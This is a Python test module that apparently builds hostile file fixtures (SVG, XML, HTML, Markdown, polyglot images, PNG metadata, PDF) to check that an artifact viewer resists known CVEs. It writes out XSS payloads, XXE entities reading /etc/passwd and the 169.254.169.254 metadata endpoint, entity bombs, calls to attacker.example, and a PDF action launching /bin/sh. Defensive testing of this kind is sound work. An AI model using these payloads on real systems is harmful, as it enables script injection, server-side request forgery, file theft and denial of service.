"""Documents that bring script, fetch things, or break out of where they are shown."""

from __future__ import annotations

from tests.hostile.case import MARK, MARKUP, Collection

MARKUPS = Collection([])
ARGO_HTML = "Argo CVE-2022-29164"
MLFLOW_XSS = "MLflow GHSA-3v79-q7ph-j75h"
LAUGHS = "CVE-2003-1564 (billion laughs)"
ENTITIES = "CWE-611, as CVE-2014-3529"
LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#x6A;avascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "//attacker.example/x",
)
ENTITY_BOMB = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))


def laughing(root: str, inside: str = "") -> str:
    """Return an XML document whose text wants to be 10^11 words long."""
    return f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY a0 "ha">{ENTITY_BOMB}]><{root}>{inside}&a11;</{root}>'


def svg(inside: str, attributes: str = "") -> str:
    """Return an SVG with namespaces."""
    space = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    start = f'<svg {space} viewBox="0 0 90 90" width="90" height="90" {attributes}>'
    return f'{start}{inside}<rect width="9" height="9"/></svg>'


MARKUPS.several(
    "svg",
    {
        "script": lambda: svg("<script>alert(1)</script>"),
        "handler": lambda: svg("<rect onclick='alert(1)' onload='alert(1)'/>", "onload='alert(1)'"),
        "foreign": lambda: svg(
            "<foreignObject width='9' height='9'><body xmlns='http://www.w3.org/1999/xhtml'>"
            "<iframe src='javascript:alert(1)'/><script>alert(1)</script></body></foreignObject>"
        ),
        "link": lambda: svg(
            "<a xlink:href='javascript:alert(1)'><text y='9'>x</text></a><a href='javascript:alert(1)'/>"
        ),
        "animated_link": lambda: svg(
            "<a><animate attributeName='href' values='javascript:alert(1)'/><text>x</text></a>"
        ),
        "set_handler": lambda: svg("<rect><set attributeName='onmouseover' to='alert(1)'/></rect>"),
        "use_elsewhere": lambda: svg(
            "<use xlink:href='https://attacker.example/x.svg#y'/><use href='data:image/svg+xml,x#y'/>"
        ),
        "image_elsewhere": lambda: svg("<image href='http://169.254.169.254/latest' width='9' height='9'/>"),
        "image_file": lambda: svg("<image xlink:href='file:///etc/passwd' width='9' height='9'/>"),
        "style": lambda: svg(
            "<style>@import 'https://attacker.example/x.css';rect{fill:url(https://attacker.example)}</style>"
        ),
        "font": lambda: svg(
            "<style>@font-face{font-family:x;src:url(//attacker.example/f)}text{font-family:x}</style>"
        ),
        "filter": lambda: svg("<filter id='f'><feImage href='https://attacker.example/x.png'/></filter>"),
        "entity_markup": lambda: '<!DOCTYPE svg [<!ENTITY e "&#60;script>alert(1)&#60;/script>">]>' + svg("&e;"),
        "stylesheet": lambda: '<?xml-stylesheet href="javascript:alert(1)"?>' + svg(""),
        "xslt": lambda: (
            '<?xml-stylesheet type="text/xsl" href="#x"?>' + svg("<xsl:x xmlns:xsl='http://www.w3.org/1999/XSL'/>")
        ),
        "nested_uses": lambda: svg(
            "<g id='u0'><rect/></g>"
            + "".join(f"<g id='u{n}'>" + f"<use href='#u{n - 1}'/>" * 10 + "</g>" for n in range(1, 12))
        ),
        "use_of_itself": lambda: svg("<g id='a'><use href='#b'/></g><g id='b'><use href='#a'/></g>"),
        "cdata": lambda: svg("<style><![CDATA[</style><script>alert(1)</script>]]></style>"),
        "title": lambda: svg(
            f"<title>&lt;/title>{MARKUP.replace('<', '&lt;')}</title><desc>{MARKUP.replace('<', '&lt;')}</desc>"
        ),
        "huge_size": lambda: (
            svg("<text>x</text>").replace('width="90"', 'width="1e30"').replace("0 0 90 90", "0 0 1e308 NaN")
        ),
        "deep": lambda: svg("<g>" * 50_000 + "</g>" * 50_000),
        "path": lambda: svg(f"<path d='M0 0{' l1 1' * 400_000}'/>"),
        "blur": lambda: svg("<filter id='f'><feGaussianBlur stdDeviation='1e9'/></filter><rect filter='url(#f)'/>"),
        "pattern": lambda: svg("<pattern id='p' width='1e-9' height='1e-9'><rect/></pattern><rect fill='url(#p)'/>"),
        "turbulence": lambda: svg(
            "<filter id='f'><feTurbulence numOctaves='100000000'/></filter><rect filter='url(#f)'/>"
        ),
        "utf16": lambda: svg("<script>alert(1)</script>").encode("utf-16"),
        "utf7": lambda: '<?xml version="1.0" encoding="utf-7"?>' + svg("+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    },
    "plots/figure.svg",
    "CWE-79 in SVG; jupyter_server: CSP without sandbox",
    "a picture runs script or asks other servers",
)
MARKUPS.several(
    "svg_laughs", {"text": lambda: laughing("svg")}, "plots/figure.svg", LAUGHS, "10^11 words are built in memory"
)
MARKUPS.several(
    "xml",
    {
        "laughs": lambda: laughing("data"),
        "quadratic": f'<!DOCTYPE d [<!ENTITY a "{"x" * 100_000}">]><d>{"&a;" * 50_000}</d>',
        "file": '<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]><d>&e;</d>',
        "host": '<!DOCTYPE d [<!ENTITY e SYSTEM "http://169.254.169.254/latest">]><d>&e;</d>',
        "parameter": '<!DOCTYPE d [<!ENTITY % p SYSTEM "file:///etc/passwd">%p;]><d>x</d>',
        "schema": '<!DOCTYPE d SYSTEM "http://127.0.0.1:1/x.dtd"><d>x</d>',
        "include": '<d xmlns:x="http://www.w3.org/2001/XInclude"><x:include parse="text" href="file:///etc/passwd"/></d>',
        "deep": lambda: "<a>" * 200_000,
        "attributes": lambda: "<d " + " ".join(f'a{n}="{n}"' for n in range(50_000)) + "/>",
        "names": f'<d a="{MARKUP.replace("<", "&lt;").replace(chr(34), "&quot;")}"><![CDATA[{MARKUP}]]></d>',
        "stylesheet": '<?xml-stylesheet type="text/xsl" href="file:///etc/passwd"?><d>x</d>',
        "xhtml": '<d xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></d>',
    },
    "runs/a/report.xml",
    f"{LAUGHS}, {ENTITIES}",
    "a parser builds gigabytes, or reads files and hosts for the document",
)
MARKUPS.several(
    "html",
    {
        "script": "<html><script>fetch('/api/v2/dags', {credentials: 'include'})</script></html>",
        "refresh": "<html><meta http-equiv=refresh content='0;url=https://attacker.example'></html>",
        "title": f"<html><title>{MARKUP}</title><body>{MARKUP}</body></html>",
        "never_closed": lambda: "<html><body>" + "<div><b>" * 200_000,
        "comment": lambda: "<html><!--" + "--!><script>alert(1)</script>" * 3,
        "attributes": f"<html><p {' '.join(f'a{n}=1' for n in range(100_000))}>x</html>",
        "angles": lambda: "<html>" + "<" * 500_000,
        "imports": lambda: "<html><style>" + "@import " * 100_000 + "</style></html>",
        "charset": "<html><meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</html>",
        "utf16": lambda: "<html><script>alert(1)</script></html>".encode("utf-16"),
        "template": "<html><template shadowrootmode=open><script>alert(1)</script></template></html>",
    },
    "reports/report.html",
    ARGO_HTML,
    "a report's script calls the API as the viewer",
)
MARKUPS.several(
    "markdown",
    {
        "links": lambda: (
            "# Links\n\n" + "\n".join(f"[a{n}]({link})\n[b{n}]: <{link}>\n[b{n}]" for n, link in enumerate(LINKS))
        ),
        "pictures": lambda: (
            "# Pictures\n\n"
            + "\n".join(f"![a]({link}) ![b](http://169.254.169.254/{n})" for n, link in enumerate(LINKS))
        ),
        "raw": f"# Raw\n\n{MARKUP}\n\n<iframe srcdoc='<script>1</script>'></iframe>\n\n<style>@import 'x'</style>",
        "autolinks": '# A\n\n<javascript:alert(1)> <data:text/html,x> <https://x.example/"onmouseover=alert(1)>',
        "code": f"# A\n\n```{MARKUP}\n{MARKUP}\n```\n\n`{MARKUP}`",
        "table": f"# A\n\n|{MARKUP}|b|\n|-|-|\n|{MARKUP}|{MARKUP}|\n",
        "footnote": f"# A\n\nx[^{MARKUP}]\n\n[^{MARKUP}]: {MARKUP}\n\n- [ ] {MARKUP}\n",
        "title": f"# {MARKUP}\n\n[x](https://ok.example '{MARKUP}')",
        "entities": "# A\n\n&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    },
    "runs/a/card.md",
    MLFLOW_XSS,
    "text becomes script, or the reader's browser asks other servers",
)
MARKUPS.several(
    "markdown_slow",
    {
        "brackets": lambda: "# A\n" + "[" * 200_000,
        "emphasis": lambda: "# A\n" + "*a **a " * 60_000,
        "spaces": lambda: "# A\nx" + " " * 200_000 + "x  \n",
        "quotes": lambda: "# A\n" + ">" * 100_000 + "a",
        "lists": lambda: "# A\n" + "".join(" " * n + "* a\n" for n in range(3_000)),
        "ticks": lambda: "# A\n" + " ".join("`" * n for n in range(1_000)),
        "links": lambda: "# A\n" + "[a](b" * 60_000,
        "pictures": lambda: "# A\n" + "![" * 100_000,
        "references": lambda: "# A\n" + "".join(f"[{n}]: x\n" for n in range(30_000)),
        "tables": lambda: "# A\n\n" + "|a" * 5_000 + "\n" + "|-" * 5_000 + "\n" + "|b\n" * 5_000,
        "addresses": lambda: "# A\n" + "http://a.example" * 20_000 + " " + "a@" * 60_000,
        "entities": lambda: "# A\n" + "&#" * 100_000 + "<!--" * 50_000,
        "html": lambda: "# A\n" + "<a " * 50_000,
        "footnotes": lambda: "# A\n" + "".join(f"[^{n}]" for n in range(10_000)) + "\n\n[^1]: x",
    },
    "runs/a/slow.md",
    "markdown-it CVE-2022-21670 and kin (quadratic parsing)",
    "a note takes minutes",
)


MARKUPS.several(
    "polyglot",
    {
        "gif_script": lambda: b"GIF89a/*" + bytes(8) + b"*/=1;alert(1)//" + b"<script>alert(1)</script>;",
        "gif_html": lambda: b"GIF89a" + b"\x01\0\x01\0\0\0\0" + b"<html><script>alert(1)</script></html>;",
        "pdf_html": b"%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF",
        "png_html": b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script></html>",
        "jpeg_html": lambda: (
            b"\xff\xd8\xff\xfe\x00\x30<html><script>alert(1)</script></html>" + bytes(20) + b"\xff\xd9"
        ),
        "svg_in_png_name": lambda: svg("<script>alert(1)</script>"),
        "csv_html": "a,b\n<script>alert(1)</script>,<img src=x onerror=alert(1)>\n",
        "zip_html": lambda: b"<html><script>alert(1)</script></html>PK\x05\x06" + bytes(18),
        "xml_html": "<?xml version='1.0'?><x:html xmlns:x='http://www.w3.org/1999/xhtml'><x:script>alert(1)</x:script></x:html>",
        "webp_html": lambda: b"RIFF\x40\0\0\0WEBPVP8 <html><script>alert(1)</script></html>" + bytes(40),
    },
    "plots/picture.png",
    "CWE-434, CWE-436 (content that two readers take for two things)",
    "a picture is shown as a page",
)


@MARKUPS.add("plots/named.png", "CWE-79 by picture metadata", "an artist's name becomes script")
def png_with_markup_in_its_metadata() -> bytes:
    import io

    from PIL import Image, PngImagePlugin

    said = PngImagePlugin.PngInfo()
    for name in ("Artist", "Comment", "XML:com.adobe.xmp"):
        said.add_text(name, MARKUP)
    made = io.BytesIO()
    exif = Image.Exif()
    exif[0x13B] = exif[0x10E] = MARKUP
    Image.new("RGB", (8, 8)).save(made, "PNG", pnginfo=said, exif=exif)
    return made.getvalue()


@MARKUPS.add(
    "runs/a/script.pdf", "pdf.js CVE-2024-4367, CWE-94 in PDF actions", "a document's script or link runs on opening"
)
def pdf_with_script_and_links() -> bytes:
    from tests.hostile.bombs import pdf_with

    action = b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /AA << /WC << /S /Launch /F (/bin/sh) >> >>"
    link = b"/Annots [<< /Subtype /Link /Rect [0 0 99 99] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>]"
    return pdf_with(b"<< /Length 0 >>\nstream\n\nendstream", catalog=action, page=link)


@MARKUPS.add(
    "runs/a/report", ARGO_HTML, "a page that hides in a note's name is served as a page", content_type="text/html"
)
def text_declared_as_html() -> str:
    return f"plain words {MARKUP} {MARK}\n" * 5
